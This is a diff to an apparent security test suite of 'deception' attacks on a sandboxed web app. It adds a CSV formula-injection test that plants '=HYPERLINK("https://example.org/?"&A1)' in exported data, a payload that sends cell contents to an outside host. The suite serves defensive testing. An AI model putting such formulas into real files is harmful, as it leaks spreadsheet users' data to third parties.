@@ -53,7 +53,8 @@ export const deception: readonly Attack[] = [
         await new Promise((resolve) => setTimeout(resolve, 500));
       },
       succeeded: (tab) => tab.inPage<boolean>(`${dialog} !== null && document.activeElement?.localName === "iframe"`),
-      unshown: {firefox: "Firefox gives a frame no focus by script while a modal question is open"}
+      // Firefox gives a frame no focus by script while a question is modal
+      also: {firefox: {app: ["focus", "modal"]}}
     }
   ),
   js("ask-again", {app: ["silence"]}, lure("ask-again"), {
@@ -70,6 +71,25 @@ export const deception: readonly Attack[] = [
     },
     succeeded: (tab) => tab.inPage<boolean>(`${dialog} !== null`)
   }),
+  js(
+    "csv-formula",
+    {guest: ["formula"]},
+    `const post = MessagePort.prototype.postMessage;
+MessagePort.prototype.postMessage = function (message, ...more) {
+  if (message?.type === "download" && /(^|[\\n,"])[=+@-]/.test(message.content)) won();
+  return post.call(this, message, ...more);
+};
+display({numRows: () => 1, columnNames: () => ["=1+1"], get: () => '=HYPERLINK("https://example.org/?"&A1)'});
+let save;
+for (let i = 0; i < 100 && !save; i++) {
+  await new Promise((resolve) => setTimeout(resolve, 20));
+  save = [...document.querySelectorAll(".result-count button")].at(-1);
+}
+save.click();
+await new Promise((resolve) => setTimeout(resolve, 300));
+MessagePort.prototype.postMessage = post;`,
+    {alone: "always", uses: ["display"]}
+  ),
   js(
     "tab-title",
     {sandbox: "allow-same-origin", bootstrap: ["origin"]},
